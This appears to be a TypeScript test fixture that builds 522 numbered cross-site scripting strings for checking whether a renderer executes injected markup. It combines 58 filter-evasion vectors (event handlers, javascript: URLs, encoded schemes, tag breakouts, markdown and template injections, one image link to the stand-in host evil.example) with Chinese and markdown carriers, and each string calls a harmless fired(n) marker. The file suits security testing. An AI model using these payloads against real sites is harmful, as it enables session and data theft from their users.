/** Numbers enter; as many different texts leave that would call `fired(n)` if a page took them for markup or script. */
type Vector = (call: string) => string;

/** By what the browser would have to do with the text. Sources: OWASP XSS filter evasion, PortSwigger's cheat sheet, html5sec. */
const vectors: readonly Vector[] = [
  (c) => `<script>${c}</script>`,
  (c) => `<img src=x onerror=${c}>`,
  (c) => `<img src=x onerror="${c}">`,
  (c) => `<svg onload=${c}>`,
  (c) => `<svg><script>${c}</script></svg>`,
  (c) => `<svg><animate onbegin=${c} attributeName=x dur=1s>`,
  (c) => `<svg><a xlink:href="javascript:${c}"><text y=20>点</text></a></svg>`,
  (c) => `<svg><style><img src=x onerror=${c}></style></svg>`,
  (c) => `<math><mtext><table><mglyph><style><img src=x onerror=${c}>`,
  (c) => `<iframe srcdoc="<script>parent.${c}</script>"></iframe>`,
  (c) => `<iframe src="javascript:parent.${c}"></iframe>`,
  (c) => `<object data="javascript:${c}"></object>`,
  (c) => `<embed src="javascript:${c}">`,
  (c) => `<details open ontoggle=${c}>`,
  (c) => `<video><source onerror=${c}></video>`,
  (c) => `<audio src=x onerror=${c}></audio>`,
  (c) => `<input autofocus onfocus=${c}>`,
  (c) => `<select autofocus onfocus=${c}></select>`,
  (c) => `<textarea autofocus onfocus=${c}></textarea>`,
  (c) => `<button formaction="javascript:${c}">点</button>`,
  (c) => `<form action="javascript:${c}"><input type=submit></form>`,
  (c) => `<a href="javascript:${c}">点</a>`,
  (c) => `<a href="java&#x0A;script:${c}">点</a>`,
  (c) => `<a href="&#106;avascript:${c}">点</a>`,
  (c) => `<body onload=${c}>`,
  (c) => `<marquee onstart=${c}>走</marquee>`,
  (c) => `<style onload=${c}></style>`,
  (c) => `<link rel=stylesheet href=x onerror=${c}>`,
  (c) => `<meta http-equiv=refresh content="0;url=javascript:${c}">`,
  (c) => `<base href="javascript:${c}//">`,
  (c) => `<template><img src=x onerror=${c}></template>`,
  (c) => `<noscript><p title="</noscript><img src=x onerror=${c}>">`,
  (c) => `<xmp><p title="</xmp><img src=x onerror=${c}>">`,
  (c) => `<div style="animation-name:rise" onanimationstart=${c}>动</div>`,
  (c) => `<p onmouseover=${c} onpointerenter=${c}>移</p>`,
  (c) => `"><img src=x onerror=${c}>`,
  (c) => `'><img src=x onerror=${c}>`,
  (c) => `" autofocus onfocus=${c} x="`,
  (c) => `</title><script>${c}</script>`,
  (c) => `</textarea><img src=x onerror=${c}>`,
  (c) => `</script><script>${c}</script>`,
  (c) => `</style><img src=x onerror=${c}>`,
  (c) => `--><img src=x onerror=${c}>`,
  (c) => `]]><img src=x onerror=${c}>`,
  (c) => `<<img src=x onerror=${c}>`,
  (c) => `<img/src=x/onerror=${c}>`,
  (c) => `<IMG SRC=x ONERROR=${c}>`,
  (c) => `<img src=x onerror=&#${"f".charCodeAt(0)};${c.slice(1)}>`,
  (c) => `[点](javascript:${c})`,
  (c) => `![图](x" onerror="${c})`,
  (c) => `![图](http://evil.example/${c})`,
  (c) => `<javascript:${c}>`,
  (c) => `[点](data:text/html,<script>opener.${c}</script>)`,
  (c) => `[点]: javascript:${c}\n[点]`,
  (c) => `[1](#mark-1" onclick="${c})`,
  (c) => `{{constructor.constructor('${c}')()}}`,
  (c) => `\${${c}}`,
  (c) => `&lt;img src=x onerror=${c}&gt;`,
];

/** Where the text stands in a question or document. */
const carriers: readonly ((payload: string) => string)[] = [
  (p) => p,
  (p) => `到2025年${p}达到95%以上`,
  (p) => `**${p}**`,
  (p) => `| 指标 | ${p} |`,
  (p) => `> ${p}`,
  (p) => `《${p}》`,
  (p) => `\`\`\`${p}\`\`\``,
  (p) => `1. ${p}`,
  (p) => `${p}${p}`,
];

/** The `n`th text, the same on every run; different for every n below vectors × carriers, 522. */
export function payload(n: number): string {
  const vector = vectors[n % vectors.length] ?? ((c: string) => c);
  const carrier = carriers[Math.floor(n / vectors.length) % carriers.length] ?? ((p: string) => p);
  return carrier(vector(`fired(${n})`));
}

/** Numbers of the texts that hold every vector once, its carriers in turn. */
export const eachVector: readonly number[] = vectors.map((_, i) => i + vectors.length * (i % carriers.length));
